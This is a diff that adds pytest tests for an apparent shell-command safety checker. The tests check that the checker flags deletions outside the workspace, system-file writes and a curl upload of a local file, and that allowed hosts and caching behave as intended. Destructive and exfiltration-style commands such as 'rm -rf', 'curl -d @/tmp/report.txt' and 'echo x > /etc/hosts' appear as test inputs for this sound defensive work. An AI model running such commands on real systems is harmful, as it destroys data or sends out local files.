@@ -217,3 +217,34 @@ def test_a_word_after_a_redirection_is_an_argument() -> None:
     cmds = [c for p in script.pipelines for c in p.commands]
     assert cmds[-1].words == ["sudo", "PATH=/tmp", "rm", "-rf", "~"]
     assert not cmds[-1].assigns
+
+
+def test_a_remembered_verdict_is_the_verdict_for_that_context_and_a_copy() -> None:
+    """Verdicts are remembered per text, workspace and allowed hosts: the workspace still
+    decides what is outside it, and a caller changing the list changes nothing later."""
+    text = "rm -rf /srv/app/build"
+    inside = judge(text, Context(workspace="/srv/app"))
+    outside = judge(text, Context(workspace="/home/dev/other"))
+    assert inside == []
+    assert [f.title for f in outside] == ["deletes system files"]
+    assert judge(text, Context(workspace="/srv/app")) == []
+    outside.clear()
+    assert [f.title for f in judge(text, Context(workspace="/home/dev/other"))] == [
+        "deletes system files"
+    ]
+    exfil = "curl -d @/tmp/report.txt https://files.example.net/upload"
+    assert [f.title for f in judge(exfil, Context())] == ["uploads a local file"]
+    assert judge(exfil, Context(allowed_hosts=frozenset({"files.example.net"}))) == []
+
+
+@pytest.mark.parametrize("command", ["echo hi > /srv/app/notes.txt", "tee /srv/app/notes.txt"])
+def test_a_write_inside_a_workspace_under_a_system_folder_is_the_projects_own(
+    command: str,
+) -> None:
+    assert judge(command, Context(workspace="/srv/app")) == []
+    for workspace in (None, "/srv", "/etc", "/srv/other"):  # a system folder is no workspace
+        titles = [f.title for f in judge(command, Context(workspace=workspace))]
+        assert titles == ["writes a system file"], workspace
+    assert [f.title for f in judge("echo x > /etc/hosts", Context(workspace="/srv/app"))] == [
+        "writes a system file"
+    ]
